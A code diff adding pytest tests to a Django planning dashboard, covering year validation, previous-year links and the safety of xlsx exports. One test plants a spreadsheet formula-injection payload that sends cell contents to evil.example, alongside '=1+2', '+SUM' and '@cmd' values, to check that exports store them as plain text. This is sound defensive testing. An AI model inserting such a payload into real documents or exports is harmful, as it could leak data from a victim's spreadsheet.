@@ -91,3 +91,56 @@ def test_a_user_seeing_several_units_chooses_a_dashboard(client, people):
     html = client.get(reverse("dashboards:mine")).content.decode()
     assert f'href="{reverse("dashboards:unit", args=["11311"])}"' in html
     assert f'href="{reverse("dashboards:unit", args=["11329"])}"' in html
+
+
+@pytest.mark.parametrize("year", ["1999", "2028", "0", "99999", "²", "2026.0", "-1"])
+def test_the_api_refuses_far_years_with_a_message(client, people, province_plan, year):
+    client.force_login(people.province_officer)
+    response = client.get(reverse("dashboards:api", args=[people.province.code]), {"year": year})
+    assert response.status_code == 400
+    assert response.json() == {"year": "Năm không hợp lệ: hãy chọn năm từ 2000 đến 2027."}
+
+
+@pytest.mark.parametrize("year", ["1999", "2028", "0", "99999", "²"])
+def test_the_dashboard_ignores_far_years(client, people, province_plan, year):
+    client.force_login(people.province_officer)
+    url = reverse("dashboards:unit", args=[people.province.code])
+    response = client.get(url, {"year": year})
+    assert response.status_code == 200 and response.context["board"].year == 2026
+    if year.isascii():
+        assert "Hãy chọn năm từ 2000 đến 2027." in response.content.decode()
+    export = client.get(url, {"year": year, "format": "xlsx"})
+    assert 'filename="bang-dieu-khien-31-2026.xlsx"' in export["Content-Disposition"]
+
+
+def test_the_dashboard_of_the_first_year_has_no_previous_year(client, people, province_plan):
+    client.force_login(people.province_officer)
+    url = reverse("dashboards:unit", args=[people.province.code])
+    assert client.get(url, {"year": 2000}).context["previous_year_url"] is None
+    assert client.get(url, {"year": 2001}).context["previous_year_url"] == f"{url}?year=2000"
+
+
+def test_the_export_writes_typed_text_as_text_not_formulas(client, people, province_plan):
+    from lanhmanh.dashboards.tests.conftest import make_task
+    from lanhmanh.geo.tests.factories import AgencyFactory
+
+    injected = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    target = province_plan.targets.get(order=1)
+    target.text = injected
+    target.save()
+    people.commune_a.name = "=1+2"
+    people.commune_a.save()
+    make_task(province_plan, "+SUM(1,2)", lead_agency=AgencyFactory(name="@cmd", unit=people.province),
+              deadline=datetime.date(2026, 4, 25))
+    client.force_login(people.province_officer)
+    response = client.get(reverse("dashboards:unit", args=[people.province.code]), {"format": "xlsx"})
+    book = load_workbook(io.BytesIO(response.content))
+    first = book["Chỉ tiêu"]["A3"]
+    assert first.value == injected and first.data_type == "s"
+    header = book["Đơn vị cấp dưới"]["B2"]
+    assert header.value == f"{injected} — Thực hiện" and header.data_type == "s"
+    names = {c.value: c.data_type for c in book["Đơn vị cấp dưới"]["A"]}
+    assert names["=1+2"] == "s"
+    tasks = {c.value: c.data_type for row in book["Nhiệm vụ"].iter_rows(min_row=3) for c in row}
+    assert tasks["+SUM(1,2)"] == "s" and tasks["@cmd"] == "s"
+    assert not any(c.data_type == "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
